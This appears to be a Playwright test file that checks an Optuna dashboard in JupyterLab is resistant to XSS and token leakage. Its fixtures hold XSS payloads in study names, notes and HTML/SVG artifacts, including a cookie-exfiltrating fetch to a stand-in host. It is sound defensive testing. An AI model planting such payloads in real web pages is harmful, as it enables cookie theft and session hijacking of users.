"""Issue 15: artifacts and notes never run script, and no token leaves the page.

One SQLite study carries script payloads in its name, a parameter, a user attr, its notes
and its artifacts (HTML, SVG). It is opened in the three places the dashboard runs: the
JupyterLab panel, the standalone page and a notebook cell (``show_dashboard``). In each,
every dialog and request of the browser context is recorded while the person opens the
trial, clicks the note's links and the artifacts' download links; then no dialog has
fired, the exfiltrating ``fetch`` was never sent, no request left the server under test
and none carried its token in its URL. HTML and SVG artifacts download (or show as text),
never render.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import optuna
import pytest
from labutil import OUTPUT, Lab, free_port, open_study, screenshot
from optuna.artifacts import FileSystemArtifactStore, upload_artifact
from optuna.distributions import CategoricalDistribution
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Dialog,
    Download,
    Locator,
    Page,
    expect,
)
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
from test_notebook_widgets import notebook, wait_for_kernel

from jupyterlab_optuna import save_note
from jupyterlab_optuna.artifact import get_artifact_path

IMG = "<img src=x onerror=alert(1)>"
STUDY = f"xss {IMG}"
EVIL_HTML = (
    "<script>alert(document.cookie)</script>"
    "<img src=x onerror=\"fetch('http://127.0.0.1:9/steal?'+document.cookie)\">"
)
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"><script>alert(6)</script></svg>'
)
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
STEAL = "127.0.0.1:9"
SETTLE_MS = 1500  # long enough for an onerror / onload payload to fire


# --- the study -------------------------------------------------------------------------


def note_body(html_link: str) -> str:
    """A note with a script, an event handler, a javascript: link and an artifact link."""
    return (
        "# Evil note\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n"
        f"[click](javascript:alert(3))\n\n[report]({html_link})\n"
    )


def build_study(root: Path) -> None:
    """``xss.db`` and ``artifacts/`` in ``root``: a finished trial, and a running one holding
    the artifacts; both notes link to the HTML artifact."""
    study = optuna.create_study(storage=f"sqlite:///{root / 'xss.db'}", study_name=STUDY)
    kind = CategoricalDistribution([IMG, "plain"])
    study.add_trial(
        optuna.trial.create_trial(
            params={"kind": IMG},
            distributions={"kind": kind},
            value=1.0,
            user_attrs={"label": IMG},
        )
    )
    study.enqueue_trial({"kind": IMG})
    trial = study.ask()
    trial.suggest_categorical("kind", [IMG, "plain"])
    trial.set_user_attr("label", IMG)

    store = FileSystemArtifactStore(str(root / "artifacts"))
    (root / "artifacts").mkdir()
    files = root / "files"
    files.mkdir()
    ids = {}
    for name, content, mimetype in (
        ("evil.html", EVIL_HTML.encode(), "text/html"),
        ("evil.svg", EVIL_SVG.encode(), "image/svg+xml"),
        ("ok.png", PNG, "image/png"),
    ):
        (files / name).write_bytes(content)
        ids[name] = upload_artifact(
            artifact_store=store,
            file_path=str(files / name),
            study_or_trial=trial,
            mimetype=mimetype,
        )
    link = get_artifact_path(trial, ids["evil.html"])
    save_note(study, note_body(link))
    save_note(trial, note_body(link))


# --- what the browser did ------------------------------------------------------------


@dataclass
class Watch:
    """Every dialog, request (web sockets too) and new page of a browser context."""

    context: BrowserContext
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    popups: list[Page] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.context.on("page", self._page)

    def _page(self, page: Page) -> None:
        if self.context.pages and page is not self.context.pages[0]:
            self.popups.append(page)
        page.on("dialog", self._dialog)
        page.on("websocket", lambda ws: self.requests.append(ws.url))

    def _dialog(self, dialog: Dialog) -> None:
        if dialog.type == "beforeunload":
            dialog.accept()  # Lab asks before a navigation (here: a download) leaves it
            return
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def assert_clean(self, page: Page, origin: str, token: str, login: str) -> None:
        """No script ran and no request left ``origin``; none but the ``login`` URL (the
        person opening the page with the token) carried the token."""
        page.wait_for_timeout(SETTLE_MS)
        assert self.dialogs == [], f"script ran: {self.dialogs}"
        assert not [u for u in self.requests if STEAL in u], "the payload sent a request"
        netloc = urlsplit(origin).netloc
        foreign = [u for u in self.requests if origin_of(u) not in ("", netloc)]
        assert foreign == [], f"requests left {netloc}"
        leaking = [u for u in self.requests if token in u and u != login]
        assert leaking == [], "the token is in a request URL"
        for popup in self.popups:
            if not popup.is_closed():
                assert popup.locator("script, img[onerror], svg[onload]").count() == 0, popup.url


def origin_of(url: str) -> str:
    """``host:port`` a URL reaches (a ``blob:`` URL's is its creator's); ``""`` for data."""
    parts = urlsplit(url)
    if parts.scheme == "blob":
        return urlsplit(url[len("blob:") :]).netloc
    return parts.netloc if parts.scheme != "data" else ""


@pytest.fixture
def watched(browser: Browser, request: pytest.FixtureRequest) -> Iterator[tuple[Watch, Page]]:
    """A page in a fresh context whose dialogs, requests and popups are recorded."""
    w = Watch(browser.new_context(viewport={"width": 1400, "height": 1000}))
    page = w.context.new_page()
    page.set_default_timeout(30_000)
    yield w, page
    OUTPUT.mkdir(exist_ok=True)
    page.screenshot(path=str(OUTPUT / f"{request.node.name}.png"))
    w.context.close()


# --- what the person does ------------------------------------------------------------


def artifact(scope: Locator, name: str) -> Locator:
    """The figure of the artifact ``name``."""
    return scope.locator(".jp-OptunaDashboard-artifact").filter(
        has=scope.page.locator("figcaption", has_text=name)
    )


def must_download(page: Page, w: Watch, link: Locator) -> Download:
    """Click a link that must download; if a page opens instead, fail with what ran."""
    try:
        with page.expect_download(timeout=15_000) as download:
            link.click()
    except PlaywrightTimeoutError:
        page.wait_for_timeout(SETTLE_MS)
        pytest.fail(f"no download; the page is at {page.url}; script ran: {w.dialogs}")
    return download.value


def check_trial(page: Page, w: Watch, scope: Locator, shot: str) -> None:
    """The running trial: payloads as text, HTML/SVG as text previews, downloads only."""
    detail = scope.locator('.jp-OptunaDashboard-trialDetail[data-trial-number="1"]')
    # the payload strings are text, not elements
    expect(detail.locator(".jp-OptunaDashboard-facts")).to_contain_text(IMG)
    assert detail.locator(".jp-OptunaDashboard-facts img").count() == 0
    # the note: sanitized, the javascript: link defused, the artifact link resolved
    note = detail.locator(".jp-OptunaDashboard-markdown")
    expect(note.locator("h1")).to_have_text("Evil note")
    check_markdown(note)
    # HTML and SVG as text in a <pre>, never as an image or a frame; the PNG as an image
    for name, payload in (("evil.html", "<script>alert(document.cookie)</script>"),
                          ("evil.svg", "<script>alert(6)</script>")):  # fmt: skip
        figure = artifact(detail, name)
        expect(figure.locator("pre.jp-OptunaDashboard-textPreview")).to_contain_text(payload)
        assert figure.locator("img, iframe, object, embed, svg").count() == 0, name
    expect(artifact(detail, "ok.png").locator("img")).to_have_attribute("alt", "ok.png")
    expect(artifact(detail, "ok.png").locator("img")).to_have_js_property("naturalWidth", 1)
    screenshot(detail, shot)

    # the download links download; the note's link to the HTML artifact too
    for name in ("evil.html", "evil.svg"):
        link = artifact(detail, name).locator("figcaption a")
        assert must_download(page, w, link).suggested_filename == name
    report = must_download(page, w, note.get_by_role("link", name="report"))
    assert Path(report.path()).read_text() == EVIL_HTML
    note.get_by_text("click", exact=True).click()


def check_markdown(note: Locator) -> None:
    """A rendered evil note: no script, no handler, no javascript: link; the artifact
    link resolved to the dashboard's own URL."""
    report = note.get_by_role("link", name="report")
    expect(report).to_have_attribute("href", re.compile(r"^(?!/artifacts/)"))
    assert note.locator("script").count() == 0
    assert note.locator("[onerror], [onload]").count() == 0
    href = note.get_by_text("click", exact=True).get_attribute("href") or ""
    assert not href.lower().startswith("javascript"), href


def check_study_note(scope: Locator) -> None:
    """The Study tab's note, rendered as safely as the trial's."""
    scope.get_by_role("tab", name="Study", exact=True).click()
    note = scope.locator(".jp-OptunaDashboard-note .jp-OptunaDashboard-markdown").first
    expect(note.locator("h1")).to_have_text("Evil note")
    check_markdown(note)
    scope.get_by_role("tab", name="Trials").click()


# --- the three places ----------------------------------------------------------------


def test_lab_panel_runs_no_payload_and_keeps_the_token(
    lab: Lab, watched: tuple[Watch, Page]
) -> None:
    # Given the evil study in the lab root, and a browser recording what it does
    w, page = watched
    build_study(lab.root)

    # When the person opens Lab (with its token), then the study in the panel, its note, the trial and its artifacts
    open_study(page, lab, "xss.db", STUDY, artifact_dir="artifacts")
    panel = page.locator(".jp-OptunaDashboard").first
    expect(panel.locator(".jp-OptunaDashboard-trialDetail")).to_be_visible()
    check_study_note(panel)
    check_trial(page, w, panel, "xss-lab-trial")

    # Then nothing ran, nothing left 127.0.0.1:<lab>, no URL carried Jupyter's token
    w.assert_clean(page, lab.url, lab.token, login=f"{lab.url}/lab?reset&token={lab.token}")


TOKEN = "xss-standalone-token-5f2c"


@pytest.fixture
def standalone(tmp_path: Path) -> Iterator[str]:
    """``jupyter-optuna xss.db`` on a free loopback port; its URL."""
    root = tmp_path / "served"
    root.mkdir()
    build_study(root)
    port = free_port()
    with (root / "server.log").open("wb") as log:  # the server keeps its own handle
        proc = subprocess.Popen(
            [sys.executable, "-m", "jupyterlab_optuna._cli", "xss.db", "--port", str(port),
             "--artifact-dir", "artifacts", "--root-dir", str(root)],
            cwd=root, env={**os.environ, "JUPYTERLAB_OPTUNA_TOKEN": TOKEN},
            stdout=log, stderr=subprocess.STDOUT,
        )  # fmt: skip
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 30
    while True:
        if proc.poll() is not None:
            pytest.fail((root / "server.log").read_text())
        try:
            urllib.request.urlopen(f"{url}/login", timeout=2)
            break
        except OSError:
            assert time.monotonic() < deadline, "the standalone server did not start"
            time.sleep(0.2)
    yield url
    proc.terminate()
    proc.wait(timeout=10)


def test_standalone_page_runs_no_payload_and_keeps_the_token(
    standalone: str, watched: tuple[Watch, Page]
) -> None:
    # Given the standalone server of the evil study; the person logs in with the token
    w, page = watched
    login = f"{standalone}/?token={TOKEN}"
    page.goto(login)
    expect(page).to_have_url(f"{standalone}/")

    # When they open the study, its note, the trial and its artifacts
    card = page.locator(f'.jp-OptunaDashboard-card[data-study-name="{STUDY}"]')
    card.locator(".jp-OptunaDashboard-cardMain").click()
    root = page.locator(".jp-OptunaDashboard")
    check_study_note(root)
    check_trial(page, w, root, "xss-standalone-trial")

    # Then nothing ran, nothing left the server, and no URL carried the token
    w.assert_clean(page, standalone, TOKEN, login)
    # And the session cookie is out of the page's reach
    session = f"jupyterlab-optuna-{urlsplit(standalone).port}"
    assert [c["httpOnly"] for c in w.context.cookies() if c["name"] == session] == [True]
    assert f"{session}=" not in page.evaluate("document.cookie")


CELL = """\
import optuna
from optuna.artifacts import FileSystemArtifactStore
from jupyterlab_optuna import show_dashboard
study = optuna.load_study(study_name={study!r}, storage="sqlite:///xss.db")
show_dashboard(study, artifact_store=FileSystemArtifactStore("artifacts"), height=900)
"""


def test_notebook_widget_runs_no_payload_and_keeps_the_token(
    lab: Lab, watched: tuple[Watch, Page]
) -> None:
    # Given the evil study and a notebook showing its dashboard
    w, page = watched
    build_study(lab.root)
    (lab.root / "xss.ipynb").write_text(json.dumps(notebook([CELL.format(study=STUDY)])))
    page.set_default_timeout(60_000)
    login = f"{lab.url}/lab/tree/xss.ipynb?reset&token={lab.token}"
    page.goto(login)
    page.locator(".jp-Notebook .jp-Cell").first.wait_for()
    wait_for_kernel(page)

    # When the cell runs and the person opens the study's note, the trial and its artifacts
    page.locator(".jp-Notebook .jp-Cell .jp-InputArea-editor").first.click()
    page.keyboard.press("Control+Enter")
    cell = page.locator(".jp-OptunaDashboard-cell")
    expect(cell.locator(".jp-OptunaDashboard-trialDetail")).to_be_visible()
    check_study_note(cell)
    check_trial(page, w, cell, "xss-widget-trial")

    # Then nothing ran, nothing left 127.0.0.1:<lab>, no URL carried Jupyter's token
    w.assert_clean(page, lab.url, lab.token, login)
